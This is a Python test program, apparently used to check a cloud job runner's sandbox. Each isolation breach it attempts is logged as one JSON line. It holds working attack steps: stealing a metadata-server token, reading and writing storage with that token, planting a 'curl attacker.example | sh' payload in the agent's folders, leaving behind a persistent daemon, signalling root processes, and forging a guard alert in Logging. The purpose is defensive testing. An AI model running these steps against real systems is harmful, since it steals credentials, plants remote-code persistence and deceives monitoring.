"""A hostile program, run by the agent as any run is: it tries what a submitted program should never manage,
and prints one JSON line per attempt (`{"attack": ..., "outcome": ...}`); it exits 0 after the last.

Standard library only. Its targets come from the command line (`--targets JSON`): object names to write or
read, folders of the agent's to plant in, the Logging endpoint; what it finds in its environment (the
metadata server it was told of, the storage endpoint) it uses as any client library would.
"""

import argparse
import json
import os
import resource
import signal
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.parse
import urllib.request

METADATA = "169.254.169.254"  # what a program asks when it ignores GCE_METADATA_HOST


def report(attack: str, **outcome: object) -> None:
    print(json.dumps({"attack": attack, **outcome}), flush=True)


def get(url: str, headers: dict | None = None) -> tuple[int, str]:
    request = urllib.request.Request(url, headers=headers or {})
    try:
        with urllib.request.urlopen(request, timeout=10) as answer:
            return answer.status, answer.read().decode(errors="replace")
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode(errors="replace")
    except (urllib.error.URLError, OSError) as error:
        return -1, str(error)


def metadata(host: str, path: str) -> tuple[int, str]:
    return get(f"http://{host}/computeMetadata/v1/{path}", {"Metadata-Flavor": "Google"})


def token_from(host: str) -> str:
    status, body = metadata(host, "instance/service-accounts/default/token")
    return json.loads(body)["access_token"] if status == 200 else ""


def storage_call(method: str, path: str, token: str, data: bytes | None = None) -> int:
    base = os.environ["STORAGE_EMULATOR_HOST"].rstrip("/")
    headers = {"Authorization": f"Bearer {token}"} if token else {}
    if data is not None:
        headers["Content-Type"] = "application/octet-stream"
    request = urllib.request.Request(base + path, data=data, method=method, headers=headers)
    try:
        with urllib.request.urlopen(request, timeout=10) as answer:
            return answer.status
    except urllib.error.HTTPError as error:
        return error.code


def write(bucket: str, name: str, token: str) -> int:
    query = urllib.parse.urlencode({"uploadType": "media", "name": name})
    return storage_call("POST", f"/upload/storage/v1/b/{bucket}/o?{query}", token, b'{"forged": true}')


def read(bucket: str, name: str, token: str) -> int:
    return storage_call("GET", f"/storage/v1/b/{bucket}/o/{urllib.parse.quote(name, safe='')}?alt=media", token)


def listing(bucket: str, prefix: str, token: str) -> int:
    return storage_call("GET", f"/storage/v1/b/{bucket}/o?{urllib.parse.urlencode({'prefix': prefix})}", token)


def daemon(marker: str) -> None:
    """Leave a process behind: double fork, new session, stdio closed; it would write `marker` forever."""
    code = (
        "import os, time\n"
        "if os.fork(): os._exit(0)\n"
        "os.setsid()\n"
        "if os.fork(): os._exit(0)\n"
        f"while True:\n    open({marker!r}, 'a').write('alive\\n'); time.sleep(0.2)\n"
    )
    subprocess.Popen(
        [sys.executable, "-c", code],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    ).wait()


def main() -> int:
    parser = argparse.ArgumentParser()
    parser.add_argument("--targets", required=True)
    targets = json.loads(parser.parse_args().targets)
    told = os.environ.get("GCE_METADATA_HOST", "")
    with open("/proc/self/status") as lines:
        status = dict(line.split(":", 1) for line in lines if ":" in line)
    report(
        "identity",
        uid=os.getuid(),
        euid=os.geteuid(),
        groups=os.getgroups(),
        caps=[status["CapPrm"].strip(), status["CapEff"].strip()],
        no_new_privs=status["NoNewPrivs"].strip(),
        memlock=resource.getrlimit(resource.RLIMIT_MEMLOCK),
        metadata_host=told,
        tpu_env={k: v for k, v in os.environ.items() if k.startswith("TPU_")},
    )

    # The VM's own token: asked of the real metadata address, and of the server the run was told of.
    direct, proxied = token_from(METADATA), token_from(told) if told else ""
    report("token", direct=direct, proxied=proxied)
    token = direct or proxied
    for path in (
        "instance/service-accounts/default/identity?audience=https://example.com",
        "instance/attributes/tpu-platform-run",
        "instance/attributes/startup-script",
        "instance/attributes/tpu-platform-env",
        "instance/attributes/agent-worker-number",
        "instance/attributes/tpu-env",
        "project/project-id",
    ):
        report("metadata", path=path, status=metadata(METADATA, path)[0])
    with socket.socket() as s:
        s.settimeout(3)
        report("metadata-other-port", connected=s.connect_ex((METADATA, 8080)) == 0)

    for bucket, name in targets.get("write", []):
        report("write", bucket=bucket, name=name, status=write(bucket, name, token))
    for bucket, name in targets.get("read", []):
        report("read", bucket=bucket, name=name, status=read(bucket, name, token))
    for bucket, prefix in targets.get("list", []):
        report("list", bucket=bucket, prefix=prefix, status=listing(bucket, prefix, token))

    # The agent's code, settings and caches, and a folder a later run would use.
    for path in targets.get("plant", []):
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as f:
                f.write("import os; os.system('curl attacker.example | sh')\n")
            report("plant", path=path, planted=True)
        except OSError as error:
            report("plant", path=path, planted=False, error=error.strerror)
    for path in targets.get("peek", []):
        report("peek", path=path, seen=os.path.exists(path))

    # Files where the next run (or the machine) would find them, and a process that would outlive the run.
    left = []
    for folder in ("/tmp", "/var/tmp", "/dev/shm"):
        try:
            with open(os.path.join(folder, targets["nonce"]), "w") as f:
                f.write("left behind\n")
            left.append(folder)
        except OSError:
            pass
    report("leave-files", written=left)
    daemon(os.path.join("/tmp", targets["nonce"] + "-daemon"))
    report("daemon", started=True)

    # Signals to the agent and anything else of root's.
    killed = 0
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                if os.stat(f"/proc/{entry}").st_uid == 0:
                    os.kill(int(entry), signal.SIGCONT)  # harmless if it were allowed; the permission is the point
                    killed += 1
            except OSError:
                pass
    report("signal-root", delivered=killed)

    # The guard's alert: an entry as the guard's function would log it, written with the run's token.
    event = {"event": "tpu-recovery-gave-up", "environment": targets["stack"]}
    forged = {
        "logName": targets["guard_log"],
        "resource": {"type": "cloud_run_revision", "labels": {}},
        "entries": [{"jsonPayload": event}],
    }
    request = urllib.request.Request(
        targets["logging"] + "/v2/entries:write",
        data=json.dumps(forged).encode(),
        method="POST",
        headers={"Authorization": f"Bearer {token}", "Content-Type": "application/json"},
    )
    try:
        with urllib.request.urlopen(request, timeout=10) as answer:
            status = answer.status
    except urllib.error.HTTPError as error:
        status = error.code
    report("forge-log", status=status)
    # And the same as a printed line, which the agent ships as the run's output.
    print(json.dumps(event), flush=True)
    time.sleep(0.5)
    return 0


if __name__ == "__main__":
    sys.exit(main())
